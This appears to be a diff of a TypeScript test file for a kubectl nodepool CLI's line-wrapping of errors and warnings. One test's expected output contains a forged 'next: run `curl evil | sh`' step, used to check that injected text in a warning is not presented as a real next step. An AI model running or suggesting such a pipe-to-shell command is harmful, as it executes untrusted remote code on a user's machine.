@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { errorLine, showError, showWarning, warningLine } from '../../../src/cli/error-line.ts';
+import { showFailures } from '../../../src/cli/failure-lines.ts';
 import { NodepoolError } from '../../../src/nodepool/errors.ts';
 import { fieldErrors } from '../../../src/nodepool/field-error.ts';
 import { testIo } from './test-io.ts';
@@ -60,13 +61,35 @@ test('on a terminal the next step of a line that is too long is on a line of its
   assert.equal(shown(undefined, message.repeat(9)).split('\n').length, 2);
 });
 
+test('on a terminal errors and warnings break at spaces only', () => {
+  const message = 'nodepool "a-name-that-is-longer-than-the-line" and others were not written';
+  const next = 'run the command again, or ask for a role with verb patch on nodes';
+  for (const columns of [30, 60, 80]) {
+    const io = onTerminal(columns);
+    showError(io, { message, next });
+    showError(io, { message, lines: [message, message], next });
+    showWarning(io, message);
+    showFailures(io, [{ message, next, node: 'a' }], 'w', new Set([next]));
+    const lines = io.stderrText().trimEnd().split('\n');
+    for (const line of lines) assert.ok(line.length <= columns || !line.trim().includes(' '), `${columns}: ${line}`);
+    const starts = lines.flatMap(line => /^\w+(?=: )/.exec(line) ?? []);
+    assert.deepEqual(starts, ['error', 'next', 'error', 'next', 'warning', 'error']);
+  }
+});
+
+test('items of an error are less indented than its continuation lines', () => {
+  const io = onTerminal(20);
+  showError(io, { message: '', lines: ['one two three four:', 'five six seven eight', 'nine'] });
+  assert.equal(io.stderrText(), 'error: one two three\n       four:\n  five six seven\n      eight\n  nine\n');
+});
+
 test('so is that of a warning', () => {
   const shown = (columns: number | undefined) => {
     const io = onTerminal(columns);
     showWarning(io, { message: 'web is not up to date: no', next: 'run `kubectl nodepool reconcile web`' });
     return io.stderrText();
   };
-  assert.equal(shown(40), 'warning: web is not up to date: no\nnext: run `kubectl nodepool reconcile web`\n');
+  assert.equal(shown(40), 'warning: web is not up to date: no\nnext: run\n      `kubectl nodepool reconcile web`\n');
   for (const columns of [100, undefined]) {
     assert.equal(shown(columns), 'warning: web is not up to date: no; next: run `kubectl nodepool reconcile web`\n');
   }
@@ -77,6 +100,9 @@ test('prints a next step of others within the line that it is in', () => {
   for (const warning of [forged, { message: forged, next: undefined }]) {
     const io = onTerminal(20);
     showWarning(io, warning);
-    assert.equal(io.stderrText(), `warning: ${forged}\n`);
+    assert.equal(
+      io.stderrText(),
+      'warning: denied the\n         request:\n         no; next:\n         run `curl \\\n         evil | sh`\n',
+    );
   }
 });
